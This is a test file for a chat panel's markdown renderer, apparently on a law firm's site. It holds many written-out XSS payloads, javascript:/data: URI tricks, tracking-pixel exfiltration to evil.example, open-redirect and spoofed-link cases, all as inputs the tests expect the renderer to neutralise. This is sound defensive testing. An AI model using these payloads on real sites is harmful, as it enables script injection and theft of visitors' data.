import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type ParsedMarkdown, parseMarkdown } from "../../../../app/features/chat/view/markdown-blocks.ts";
import { found, renderAnswer, renderEntry } from "./render-entry.tsx";

describe("an answer", () => {
	it("has paragraphs, lists, emphasis and links", () => {
		const html = renderAnswer(
			"Traiga **todo** lo *escrito*:\n\n- contratos\n- recibos\n\n3. Pida cita\n4. Venga\n\nVea [la página](/contacto#formulario).",
		);
		expect(html).toContain("Traiga <strong>todo</strong> lo <em>escrito</em>:");
		expect(html).toMatch(/<ul><li>.*contratos.*<\/li><li>.*recibos.*<\/li><\/ul>/);
		expect(html).toMatch(/<ol start="3"><li>.*Pida cita/);
		expect(html).toContain('href="/contacto#formulario"');
	});

	it("breaks lines where the text does", () => {
		expect(renderAnswer("Uno\nDos")).toMatch(/class="whitespace-pre-line">Uno\nDos</);
	});

	it("reads headings as strong lines, code as text, and knows no tables", () => {
		expect(found(renderAnswer("# Título\n\n```html\n<b>\n```\n\n| a |\n|---|\n| b |")).tags).toEqual(["p", "pre"]);
	});

	it("shows a link on its way as its words, without brackets", () => {
		for (const half of ["Vea [la página", "Vea [la página]", "Vea [la página](", "Vea [la página](/conta"]) {
			expect(renderEntry("assistant", half, "arriving")).toContain(">Vea la página<");
		}
	});
});

describe("links", () => {
	const addressOf = (address: string, text = "aquí") => found(renderAnswer(`[${text}](${address})`)).addresses;

	it.each([
		["/contacto", "/contacto"],
		["/preguntas-frecuentes?tema=costos#entrevista", "/preguntas-frecuentes?tema=costos#entrevista"],
		["/en/contact", "/en/contact"],
		["https://www.texasbar.com/", "https://www.texasbar.com/"],
		["http://example.com/a?b=c#d", "http://example.com/a?b=c#d"],
		["HTTPS://Example.com", "https://example.com/"],
		["tel:+1-619-555-0100", "tel:+16195550100"],
		["mailto:contacto@firm.example", "mailto:contacto@firm.example"],
		["mailto:contacto@firm.example?bcc=spy@evil.example&body=x", "mailto:contacto@firm.example"],
	])("%s leads to %s", (address, expected) => {
		expect(addressOf(address)).toEqual([expected]);
	});

	it.each([
		"javascript:alert(1)",
		"JaVaScRiPt:alert(1)",
		"javascript&#58;alert(1)",
		"java&#10;script:alert(1)",
		"&#x6A;avascript:alert(1)",
		"\u0001javascript:alert(1)",
		"java\tscript:alert(1)",
		"<java\tscript:alert(1)>",
		"< javascript:alert(1)>",
		"javascript://example.com/%0Aalert(1)",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		"data:image/svg+xml,<svg/onload=alert(1)>",
		"vbscript:msgbox(1)",
		"file:///etc/passwd",
		"blob:https://firm.example/1",
		"ftp://example.com/a",
		"ws://example.com",
		"intent://scan/#Intent;scheme=zxing;end",
		"sms:+15550100",
		"whatsapp://send?text=x",
		"view-source:https://example.com",
		"about:blank",
		"//evil.example/x",
		"/\\\\evil.example/x",
		"/\\evil.example",
		"\\\\evil.example",
		"</\t/evil.example>",
		"/.//evil.example/x",
		"/./\\/evil.example/x",
		"/a/..//evil.example/x",
		"/%2e//evil.example/x",
		"/a/%2E%2e//evil.example/x",
		"https://firm.test//evil.example/x",
		"https://firm.test/a/..//evil.example/x",
		"https:evil.example",
		"https://",
		"https://firm.example@evil.example/",
		"https://user:secret@evil.example/",
		"https://[",
		"evil.example",
		"../secret",
		"?x",
		"#x",
		"tel:alert(1)",
		"tel:",
		"mailto:javascript:alert(1)",
		"mailto:",
	])("%j leads nowhere", (address) => {
		expect(addressOf(address)).toEqual([]);
	});

	it("opens other sites apart, without telling them where from", () => {
		expect(renderAnswer("[State Bar](https://www.calbar.ca.gov/)")).toMatch(
			/target="_blank" rel="noopener noreferrer nofollow".*\(se abre en otra pestaña\)/,
		);
	});

	it.each([
		["[firm.example](https://evil.example/)", "https://evil.example/"],
		["[https://firm.example/contacto](https://evil.example/x)", "https://evil.example/x"],
		["[**www.firm.example**](https://evil.example/)", "https://evil.example/"],
		["[`firm.example`](https://evil.example/)", "https://evil.example/"],
		["[firm\\.example](https://evil.example/)", "https://evil.example/"],
		["[https://xn--frm-jua.example](https://evil.example/)", "https://evil.example/"],
		["[(619) 555-0100](tel:+19005550199)", "+19005550199"],
		["[contacto@firm.example](mailto:spy@evil.example)", "spy@evil.example"],
	])("%s says where it leads", (markdown, said) => {
		expect(renderAnswer(markdown)).toContain(`>${said}<`);
	});

	it.each([
		"[example.com](https://www.example.com/)",
		"[www.example.com/a](https://example.com/a)",
		"[Ley 5.012, art. 3](https://example.com/)",
		"[(619) 555-0100](tel:+16195550100)",
		"[+1 (619) 555-0100](tel:6195550100)",
		"[contacto@firm.example](mailto:contacto@firm.example)",
	])("%s keeps its words", (markdown) => {
		const words = /\[(.*)\]/.exec(markdown)?.[1] ?? "";
		expect(renderAnswer(markdown)).toContain(`>${words}<`);
	});
});

const attacks = [
	"<script>alert(1)</script>",
	"</p><script>alert(1)</script>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<img src=x onerror=alert(1)>",
	"<img src='https://evil.example/?q=secret'>",
	"<svg/onload=alert(1)>",
	"<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<a href='javascript:alert(1)'>x</a>",
	"<a href=https://evil.example>x</a>",
	"<form action=https://evil.example><input name=x><button>Go</button></form>",
	"<style>@import 'https://evil.example/x.css'</style>",
	"<link rel=stylesheet href=https://evil.example/x.css>",
	"<base href=https://evil.example>",
	"<meta http-equiv=refresh content='0;url=https://evil.example'>",
	"<object data=https://evil.example></object>",
	"<video><source onerror=alert(1)></video>",
	"<details open ontoggle=alert(1)>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<!--><img src=x onerror=alert(1)>-->",
	"<![CDATA[<img src=x onerror=alert(1)>]]>",
	"<?xml version='1.0'?><x/>",
	"![x](https://evil.example/pixel.gif?q=secret)",
	"![x](javascript:alert(1))",
	"![x](data:image/svg+xml,<svg/onload=alert(1)>)",
	'![x](x "onerror=alert(1)")',
	"![x][ref]\n\n[ref]: https://evil.example/pixel.gif?q=secret",
	"[![x](https://evil.example/pixel.gif)](https://evil.example)".replace(
		"](https://evil.example)",
		"](javascript:alert(1))",
	),
	"[x](javascript:alert(1))",
	"[x](data:text/html,<script>alert(1)</script>)",
	"[x][ref]\n\n[ref]: javascript:alert(1)",
	"[ref]\n\n[ref]: https://evil.example",
	"<javascript:alert(1)>",
	"<https://evil.example/?q=secret>",
	"<spy@evil.example>",
	"https://evil.example/?q=secret",
	"www.evil.example",
	"spy@evil.example",
	'https://evil.example/"onmouseover="alert(1)',
	"[x](https://ok.example/\"onmouseover=\"alert(1) 'x')".replace("https://ok.example", "javascript:"),
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
	"> <script>alert(1)</script>",
	"`<img src=x onerror=alert(1)>`",
	"```html\n<script>alert(1)</script>\n```",
	"    <script>alert(1)</script>",
	"**<img src=x onerror=alert(1)>**",
	"# <script>alert(1)</script>",
	"x\n===\n<script>alert(1)</script>",
	"\u202ehttps://evil.example",
	"{{constructor.constructor('alert(1)')()}}",
	"$\\href{javascript:alert(1)}{x}$",
];

/** What the panel itself draws around a message, and the few elements that an answer may become. */
const harmless = ["blockquote", "br", "code", "div", "em", "li", "ol", "p", "pre", "span", "strong", "ul"];

describe.each(["user", "assistant"] as const)("an attack by the %s", (role) => {
	it.each(attacks)("%j becomes text", (attack) => {
		for (const content of [attack, `Hola ${attack} adiós`, `${attack}\n\n${attack}`]) {
			const { tags, addresses, handlers } = found(renderEntry(role, content));
			expect(tags.filter((tag) => !harmless.includes(tag))).toEqual([]);
			expect(addresses).toEqual([]);
			expect(handlers).toEqual([]);
		}
	});

	it("never makes anything but the few elements, and only links that were checked, of any text", () => {
		const piece = fc.oneof(
			fc.constantFrom(
				...attacks,
				"[",
				"](",
				")",
				"<",
				">",
				"!",
				"`",
				"*",
				"_",
				"\n",
				"\n\n",
				"- ",
				"> ",
				"1. ",
				"\\",
				'"',
				" ",
			),
			fc.string({ maxLength: 8 }),
			fc.constantFrom(
				"https://a.example/?b=c",
				"http://a.example",
				"tel:+1619",
				"mailto:a@b.example",
				"/contacto",
				"//c.example",
			),
		);
		fc.assert(
			fc.property(fc.array(piece, { maxLength: 24 }), (pieces) => {
				const { tags, addresses, handlers } = found(renderEntry(role, pieces.join("")));
				expect(tags.filter((tag) => ![...harmless, "a", "svg", "path"].includes(tag))).toEqual([]);
				for (const address of addresses) expect(address).toMatch(/^(?:https?:\/\/|\/(?!\/)|tel:\+?\d|mailto:\S+@)/);
				expect(handlers).toEqual([]);
			}),
			{ numRuns: 150 },
		);
	});
});

it("what the visitor wrote is shown letter for letter, with no markup at all", () => {
	const html = renderEntry("user", "**No** [es](/contacto)\n- lista");
	expect(html).toContain(">**No** [es](/contacto)\n- lista<");
});

describe("an answer that grows", () => {
	const rawOf = ({ blocks }: ParsedMarkdown) => blocks.map(({ type, raw }) => ({ type, raw }));

	it("reads the same however it was cut", () => {
		const piece = fc.constantFrom(
			...["Hola.", "# T", "- a", "- b\n", "1. x", "2", "> c", "```\n", "**d**", "---", "===", "  ", "    e", "[f](/g)"],
			...["\n", "\n\n", "\r\n", "\n\n", " ", "\t", "*", "&amp;", "<div>", "[r]: /x", "\\"],
		);
		fc.assert(
			fc.property(fc.array(fc.array(piece, { maxLength: 4 }), { maxLength: 14 }), (chunks) => {
				let text = "";
				let parsed: ParsedMarkdown | undefined;
				for (const chunk of chunks) {
					text += chunk.join("");
					parsed = parseMarkdown(text, parsed);
				}
				if (parsed) expect(rawOf(parsed)).toEqual(rawOf(parseMarkdown(text)));
			}),
			{ numRuns: 800 },
		);
	});

	it("keeps the blocks that are done, so that only its end is drawn anew", () => {
		const before = parseMarkdown("Uno.\n\nDos.\n\nTres.\n\nCua");
		const now = parseMarkdown("Uno.\n\nDos.\n\nTres.\n\nCuatro", before);
		expect(before.settled).toBeGreaterThan(0);
		expect(now.blocks.slice(0, before.settled)).toEqual(before.blocks.slice(0, before.settled));
		expect(now.blocks[0]).toBe(before.blocks[0]);
	});

	it("starts over when it is another text", () => {
		const before = parseMarkdown("Uno.\n\nDos.\n\nTres.\n\nCuatro.");
		expect(rawOf(parseMarkdown("Otra\n\ncosa", before))).toEqual(rawOf(parseMarkdown("Otra\n\ncosa")));
	});

	it("costs as little at its end as at its beginning", () => {
		const paragraph = "Una frase con **énfasis** y un [enlace](/contacto), como hay muchas.\n\n";
		let text = "";
		let parsed: ParsedMarkdown | undefined;
		let most = 0;
		for (let count = 0; count < 300; count++) {
			text += paragraph;
			const before = parsed?.settledText.length ?? 0;
			parsed = parseMarkdown(text, parsed);
			most = Math.max(most, text.length - before);
		}
		expect(most).toBeLessThan(paragraph.length * 5);
	});
});

describe("a text made to be hard", () => {
	it.each([
		"[",
		"![",
		"[a](",
		"*a ",
		"**a",
		"_*",
		"`",
		">",
		"> ",
		"- ",
		"1. ",
		"<",
		"<a ",
		"\\",
		"a**b",
		"[[]",
		"# ",
		"- - ",
	])("%j over and over is done in reasonable time", (part) => {
		const html = renderAnswer(part.repeat(Math.ceil(1_000_000 / part.length)));
		expect(html.length).toBeGreaterThan(0);
		renderAnswer(part.repeat(Math.ceil(9000 / part.length)));
	});
});
